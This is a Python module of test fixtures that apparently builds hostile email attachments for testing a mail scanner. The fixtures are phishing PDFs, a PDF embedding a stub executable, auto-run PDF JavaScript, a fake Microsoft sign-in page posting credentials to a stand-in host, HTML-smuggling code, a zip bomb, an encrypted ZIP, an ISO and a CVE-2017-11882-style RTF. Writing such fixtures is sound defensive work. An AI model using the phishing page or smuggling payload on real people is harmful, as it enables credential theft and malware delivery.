"""Real attachment files built by the tests: PDFs (fpdf2, pypdf), web pages, ZIPs (plain, nested,
encrypted, bombs), an ISO image (pycdlib), RTF, and mails carrying them. Nothing is downloaded."""

from __future__ import annotations

import base64
import binascii
import io
import struct
import zipfile
from email.message import EmailMessage

from fpdf import FPDF
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Link
from pypdf.generic import RectangleObject

PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run"


def pdf_link_only(url: str, label: str = "View document") -> bytes:
    """The phishing "order": one button, one link, nothing else."""
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=16)
    pdf.cell(text=label, link=url)
    return bytes(pdf.output())


def pdf_specs() -> bytes:
    """An ordinary specification sheet: a heading, text and a table of models."""
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=11)
    pdf.multi_cell(
        0,
        6,
        "Product specification - ceramic table vases, glazed stoneware. Please quote FOB Ningbo for the "
        "models below, 500 pcs each, packed 12 pcs per carton, CE and LFGB certificates required. "
        "Colour Pantone 7527 C, height 30 cm, diameter 12 cm.",
    )
    with pdf.table() as table:
        rows = (("Model", "Size", "Qty"), ("CV-2031", "30 x 12 cm", "500 pcs"), ("CV-2045", "45 x 15 cm", "300 pcs"))
        for row in rows:
            cells = table.row()
            for cell in row:
                cells.cell(cell)
    return bytes(pdf.output())


def pdf_with_program(name: str = "invoice.exe") -> bytes:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=11)
    pdf.cell(text="Invoice attached inside this file.")
    pdf.embed_file(bytes=PROGRAM, basename=name)
    return bytes(pdf.output())


def pdf_with_javascript(url: str = "https://pay-portal.example/login") -> bytes:
    """JavaScript run on opening, and a link annotation, written with pypdf."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_open_action(JavaScript(f"app.launchURL('{url}', true);"))

    writer.add_annotation(0, Link(rect=RectangleObject([50, 50, 200, 80]), url=url))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def html_phish(post_to: str = "https://collect.example/next.php") -> bytes:
    """A Microsoft-styled log-in page with an atob() payload: credential phishing as mail attachments do it."""
    hidden = base64.b64encode(f"window.location.href='{post_to}'".encode()).decode()
    return f"""<!DOCTYPE html><html><head><title>Microsoft Excel Online - Sign in</title></head>
<body><h3>Sign in with your email to view the purchase order</h3>
<form action="{post_to}" method="post">
<input type="email" name="login" placeholder="Email address">
<input type="password" name="passwd" placeholder="Password">
<button type="submit">View document</button></form>
<script>var s = atob("{hidden}"); eval(s);</script></body></html>""".encode()


def html_smuggling(inner: bytes, name: str = "order.zip") -> bytes:
    """HTML smuggling: the page builds a file from base64 in the browser and saves it."""
    blob = base64.b64encode(inner).decode()
    return f"""<html><body><p>Loading your document...</p><script>
var b = atob("{blob}"); var a = new Uint8Array(b.length); for (var i=0;i<b.length;i++) a[i]=b.charCodeAt(i);
var f = new Blob([a], {{type: "application/zip"}}); var u = URL.createObjectURL(f);
var l = document.createElement("a"); l.href = u; l.download = "{name}"; l.click();
</script></body></html>""".encode()


def zip_of(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return buf.getvalue()


def zip_bomb(unpacked_mb: int = 20) -> bytes:
    return zip_of({"data.bin": b"\x00" * unpacked_mb * 1_000_000})


# ZipCrypto (PKWARE traditional encryption), so the test's locked ZIP is a real one: Python's zipfile
# (and 7-Zip) open it with the password.
def _crc(c: int, b: int) -> int:
    return binascii.crc32(bytes([b]), c ^ 0xFFFFFFFF) ^ 0xFFFFFFFF


def _keys(password: bytes) -> list[int]:
    keys = [0x12345678, 0x23456789, 0x34567890]
    for b in password:
        _update(keys, b)
    return keys


def _update(keys: list[int], b: int) -> None:
    keys[0] = _crc(keys[0], b)
    keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
    keys[2] = _crc(keys[2], (keys[1] >> 24) & 0xFF)


def _encrypt(data: bytes, keys: list[int]) -> bytes:
    out = bytearray()
    for b in data:
        temp = (keys[2] | 2) & 0xFFFF
        out.append(b ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
        _update(keys, b)
    return bytes(out)


def encrypted_zip(name: str, data: bytes, password: str) -> bytes:
    """One stored member, encrypted with ZipCrypto."""
    crc = binascii.crc32(data) & 0xFFFFFFFF
    keys = _keys(password.encode())
    body = _encrypt(b"\x00" * 11 + bytes([crc >> 24]) + data, keys)
    raw = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 1, 0, 0, 0, crc, len(body), len(data), len(raw), 0) + raw
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 1, 0, 0, 0, crc, len(body), len(data), len(raw), 0, 0, 0, 0, 0, 0
    )
    central += raw
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(body), 0)
    return local + body + central + end


def iso_with(files: dict[str, bytes]) -> bytes:
    import pycdlib

    iso = pycdlib.PyCdlib()
    iso.new(joliet=3)
    for name, data in files.items():
        short = name.upper().replace("-", "_")
        base, _, ext = short.partition(".")
        iso.add_fp(io.BytesIO(data), len(data), f"/{base[:8]}.{ext[:3]};1", joliet_path=f"/{name}")
    out = io.BytesIO()
    iso.write_fp(out)
    iso.close()
    return out.getvalue()


def rtf_equation() -> bytes:
    """An RTF carrying an Equation Editor object (the form of CVE-2017-11882 documents)."""
    clsid = "0002CE020000000000C000000000000046"
    return ("{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 01050000" + clsid + "}}}").encode()


def eml(
    attachments: dict[str, tuple[bytes, str]], body: str = "Please see the attached order.", **headers: str
) -> bytes:
    msg = EmailMessage()
    msg["From"] = headers.get("sender", "Buyer <buyer@example-trading.com>")
    msg["To"] = "sales@factory.example"
    msg["Subject"] = headers.get("subject", "Purchase order")
    msg.set_content(body)
    for name, (data, ctype) in attachments.items():
        main, _, sub = ctype.partition("/")
        msg.add_attachment(data, maintype=main, subtype=sub, filename=name)
    return bytes(msg)
